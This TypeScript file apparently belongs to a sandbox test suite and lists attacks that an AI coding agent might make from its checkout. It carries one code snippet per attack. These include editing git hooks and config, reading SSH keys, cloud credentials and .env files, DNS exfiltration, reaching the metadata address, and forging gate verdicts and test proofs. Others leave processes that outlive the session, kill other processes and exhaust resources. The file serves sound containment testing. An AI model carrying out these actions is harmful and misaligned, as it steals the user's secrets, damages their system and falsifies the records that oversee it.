import type { Attack } from './attack';

const launcher = '.tmp/main-wave-launcher';
const store = '.git/nx-wave';

/** Programs of agents that reach out of their checkout. */
export const hostileAgents: readonly Attack[] = [
  {
    id: 'tree-edit',
    aim: 'write',
    what: 'edits a tracked file of your tree',
    does: `put(t.root + '/src/base.txt');`,
    harm: { changed: ({ root }) => `${root}/src/base.txt` },
  },
  {
    id: 'tree-by-alternates',
    aim: 'write',
    what: 'finds your repository by the alternates of its checkout, and adds a file to your tree',
    does: `const file = path.resolve('.git/objects/info/alternates');
const [objects] = fs.readFileSync(file, 'utf8').split('\\n').filter((line) => line.endsWith('/.git/objects'));
put(path.join(path.dirname(path.dirname(objects)), 'src/planted.txt'));`,
    harm: { changed: ({ root }) => `${root}/src/planted.txt` },
  },
  {
    id: 'tree-delete',
    aim: 'write',
    what: 'deletes a tracked file of your tree',
    does: `fs.rmSync(t.root + '/src/base.txt');`,
    harm: { changed: ({ root }) => `${root}/src/base.txt` },
  },
  {
    id: 'wave-file',
    aim: 'write',
    what: 'rewrites its own wave file in your tree',
    does: `fs.appendFileSync(t.root + '/docs/plans/waves/wave-1.md', '\\nmore\\n');`,
    harm: { changed: ({ root }) => `${root}/docs/plans/waves/wave-1.md` },
  },
  {
    id: 'hook',
    aim: 'write',
    what: 'writes a hook of your repository',
    does: `put(t.root + '/.git/hooks/post-checkout', '#!/bin/sh'); fs.chmodSync(t.root + '/.git/hooks/post-checkout', 0o755);`,
    harm: { changed: ({ root }) => `${root}/.git/hooks/post-checkout` },
  },
  {
    id: 'git-config',
    aim: 'write',
    what: 'sets a program in the configuration of your repository',
    does: `git('config', 'core.fsmonitor', 'true');`,
    harm: { changed: ({ root }) => `${root}/.git/config` },
  },
  {
    id: 'git-attributes',
    aim: 'write',
    what: 'names a filter in `info/attributes` of your repository',
    does: `put(t.root + '/.git/info/attributes', '* filter=evil');`,
    harm: { changed: ({ root }) => `${root}/.git/info/attributes` },
  },
  {
    id: 'index',
    aim: 'write',
    what: 'stages a deletion in your index',
    does: `git('rm', '-q', '--cached', 'src/base.txt');`,
    harm: { changed: ({ root }) => `${root}/.git/index` },
  },
  {
    id: 'ref',
    aim: 'write',
    what: 'moves your branch',
    does: `git('update-ref', 'refs/heads/planted', 'HEAD');`,
    harm: { changed: ({ root }) => `${root}/.git/refs/heads/planted` },
  },
  {
    id: 'push-by-path',
    aim: 'write',
    what: 'pushes to your repository by its path, past the redirection',
    does: `cp.execFileSync('git', ['push', '-q', t.root, 'HEAD:refs/heads/pushed'], { env: { PATH: process.env.PATH, HOME: t.home, GIT_CONFIG_GLOBAL: '/dev/null' } });`,
    harm: { changed: ({ root }) => `${root}/.git/refs/heads/pushed` },
  },
  {
    id: 'object',
    aim: 'write',
    what: 'puts other bytes into an object of your repository, behind the alternates',
    does: `fs.chmodSync(t.object, 0o644); fs.writeFileSync(t.object, 'no object');`,
    harm: { changed: ({ object }) => object },
  },
  {
    id: 'proof-of-another',
    aim: 'write',
    what: 'changes the sealed proof of another agent',
    does: `put(t.root + '/${store}/proofs/' + t.workKey + '/manifest.json', '{}');`,
    harm: { changed: ({ root, workKey }) => `${root}/${store}/proofs/${workKey}/manifest.json` },
  },
  {
    id: 'tree-proof-edit',
    aim: 'write',
    what: 'makes a stored red proof of a tree green',
    does: `put(t.root + '/${store}/tree-proofs/' + t.workKey + '.json', '{"results":[]}');`,
    harm: { changed: ({ root, workKey }) => `${root}/${store}/tree-proofs/${workKey}.json` },
  },
  {
    id: 'tree-proof-new',
    aim: 'write',
    what: 'stores a proof of a tree that nobody has proved',
    does: `put(t.root + '/${store}/tree-proofs/0123.json', '{"results":[]}');`,
    harm: { changed: ({ root }) => `${root}/${store}/tree-proofs/0123.json` },
  },
  {
    id: 'earlier-attempt',
    aim: 'write',
    what: 'rewrites what is stored of an earlier attempt of another agent',
    does: `put(t.root + '/${store}/attempts/wave-1/A2/attempt-1/bundle/manifest.json', '{}');`,
    harm: { changed: ({ root }) => `${root}/${store}/attempts/wave-1/A2/attempt-1/bundle/manifest.json` },
  },
  {
    id: 'closure',
    aim: 'write',
    what: 'writes the record that says that its wave is closed',
    does: `put(t.root + '/${launcher}/closure/wave-1.json', '{"state":"closed"}');`,
    harm: { changed: ({ root }) => `${root}/${launcher}/closure/wave-1.json` },
  },
  {
    id: 'closure-of-another',
    aim: 'write',
    what: 'opens the record of another wave again',
    does: `put(t.root + '/${launcher}/closure/wave-7.json', '{"state":"open"}');`,
    harm: { changed: ({ root }) => `${root}/${launcher}/closure/wave-7.json` },
  },
  {
    id: 'gate',
    aim: 'write',
    what: 'writes the verdict of the gate of its stage',
    does: `put(t.root + '/${launcher}/gates/wave-1/implementation/verdict.json', '{"ok":true}');`,
    harm: { changed: ({ root }) => `${root}/${launcher}/gates/wave-1/implementation/verdict.json` },
  },
  {
    id: 'quiet-checkout',
    aim: 'write',
    what: 'writes into a checkout that another agent has left for its work to be collected',
    does: `put(t.quietCheckout + '/src/A2.txt');`,
    harm: { changed: ({ quietCheckout }) => `${quietCheckout}/src/A2.txt` },
  },
  {
    id: 'living-checkout',
    aim: 'write',
    what: 'writes into the checkout of an agent that works at the same time',
    does: `put(t.livingCheckout + '/src/A2.txt');`,
    harm: { changed: ({ livingCheckout }) => `${livingCheckout}/src/A2.txt` },
    told: 'foretold',
  },
  {
    id: 'shell-start',
    aim: 'write',
    what: 'adds a line to what your shell reads at its start',
    does: `fs.appendFileSync(t.home + '/.bashrc', 'evil\\n');`,
    harm: { changed: ({ home }) => `${home}/.bashrc` },
  },
  {
    id: 'ssh-login',
    aim: 'write',
    what: 'lets a key of its own in by `~/.ssh/authorized_keys`',
    does: `put(t.home + '/.ssh/authorized_keys', 'ssh-ed25519 AAAA');`,
    harm: { changed: ({ home }) => `${home}/.ssh/authorized_keys` },
  },
  {
    id: 'node-module',
    aim: 'write',
    what: 'edits an installed package through the link in its checkout',
    does: `fs.appendFileSync('node_modules/pkg/index.js', '\\nevil();\\n');`,
    harm: { changed: ({ root }) => `${root}/node_modules/pkg/index.js` },
  },
  {
    id: 'nx-cache',
    aim: 'write',
    what: 'changes what Nx has cached of another task',
    does: `put(t.root + '/.nx/cache/1234/terminalOutput', 'evil');`,
    harm: { changed: ({ root }) => `${root}/.nx/cache/1234/terminalOutput` },
  },
  {
    id: 'neighbour',
    aim: 'write',
    what: 'writes to a folder of somebody else',
    does: `put(t.neighbour + '/planted');`,
    harm: { changed: ({ neighbour }) => `${neighbour}/planted` },
    told: 'foretold',
  },
  {
    id: 'read-key',
    aim: 'read',
    what: 'reads your SSH key',
    does: `take(t.home + '/.ssh/id_ed25519');`,
    harm: { learnt: 'key' },
  },
  {
    id: 'read-cloud',
    aim: 'read',
    what: 'reads your login of a cloud',
    does: `take(t.home + '/.aws/credentials');`,
    harm: { learnt: 'cloud' },
  },
  {
    id: 'read-env-file',
    aim: 'read',
    what: 'reads `.env` of your tree',
    does: `take(t.root + '/.env');`,
    harm: { learnt: 'env' },
  },
  {
    id: 'read-environment',
    aim: 'read',
    what: 'reads the environment of another process of yours',
    does: `take('/proc/' + t.victim.pid + '/environ');`,
    harm: { learnt: 'victim' },
  },
  {
    id: 'read-sibling',
    aim: 'read',
    what: 'copies the work of another agent out of its checkout',
    does: `take(t.livingCheckout + '/src/secret.txt');`,
    harm: { learnt: 'sibling' },
  },
  {
    id: 'call-loopback',
    aim: 'call',
    what: 'calls a service on loopback',
    does: `await say({ port: t.http, host: '127.0.0.1' });`,
    harm: { called: true },
  },
  {
    id: 'call-machine',
    aim: 'call',
    what: 'calls the machine by its own address',
    does: `await say({ port: t.http, host: t.address });`,
    harm: { called: true },
  },
  {
    id: 'call-metadata',
    aim: 'call',
    what: 'has a way to the metadata address of a cloud (nothing is sent)',
    does: `const socket = dgram.createSocket('udp4').unref();
await new Promise((done, fail) => socket.connect(80, '169.254.169.254', (error) => (error ? fail(error) : done())));
loot('reached');`,
    harm: { learnt: 'reached' },
  },
  {
    id: 'call-dns',
    aim: 'call',
    what: 'sends what it knows away as a name to resolve',
    does: `const resolver = new dns.Resolver({ timeout: 2_000, tries: 1 });
resolver.setServers(['127.0.0.1:' + t.dns]);
await new Promise((done) => resolver.resolve4(t.mark + '.attack.test', done));`,
    harm: { called: true },
  },
  {
    id: 'call-home-socket',
    aim: 'call',
    what: 'talks to an agent for keys by its socket in your home',
    does: `await say({ path: t.homeSocket });`,
    harm: { called: true },
  },
  {
    id: 'call-abstract-socket',
    aim: 'call',
    what: 'talks to a desktop service by an abstract socket',
    does: `await say({ path: '\\0' + t.abstractSocket });`,
    harm: { called: true },
  },
  {
    id: 'survive-session',
    aim: 'survive',
    what: 'leaves a process in a session of its own',
    does: `live(process.execPath, ['-e', forever, t.mark]);`,
    harm: { lives: true },
  },
  {
    id: 'survive-twice-forked',
    aim: 'survive',
    what: 'leaves a process that has forked twice, with an empty environment, in another folder',
    does: `live('setsid', ['sh', '-c', 'cd / && env -i setsid "$@" & exit 0', 'sh', process.execPath, '-e', forever, t.mark]);`,
    harm: { lives: true },
  },
  {
    id: 'signal-victim',
    aim: 'signal',
    what: 'kills another process of yours',
    does: `process.kill(t.victim.pid, 'SIGKILL');`,
    harm: { ended: true },
  },
  {
    id: 'signal-by-name',
    aim: 'signal',
    what: 'looks for a process of yours by its command line and kills it',
    does: `for (const pid of fs.readdirSync('/proc').filter((name) => /^\\d+$/.test(name))) {
  try { if (fs.readFileSync('/proc/' + pid + '/cmdline', 'utf8').includes(t.victim.mark)) process.kill(Number(pid), 'SIGKILL'); } catch {}
}`,
    harm: { ended: true },
  },
  {
    id: 'exhaust-memory',
    aim: 'exhaust',
    what: 'takes memory',
    does: `const held = [];
for (let mb = 0; mb < t.caps.memoryMb; mb += 32) { held.push(Buffer.alloc(32 << 20, 1)); await new Promise((done) => setTimeout(done, 5)); }
await hold();
loot('reached');`,
    harm: { learnt: 'reached' },
  },
  {
    id: 'exhaust-processes',
    aim: 'exhaust',
    what: 'starts processes without end',
    does: `for (let n = 0; n < t.caps.processes; n += 1) cp.spawn('sleep', ['120'], { stdio: 'ignore' }).unref();
await hold();
loot('reached');`,
    harm: { learnt: 'reached' },
  },
  {
    id: 'exhaust-disk',
    aim: 'exhaust',
    what: 'fills the disk in its checkout',
    does: `const block = Buffer.alloc(8 << 20, 1);
for (let mb = 0; mb < t.caps.diskMb; mb += 8) fs.appendFileSync('big.bin', block);
await hold();
fs.rmSync('big.bin');
loot('reached');`,
    harm: { learnt: 'reached' },
  },
];
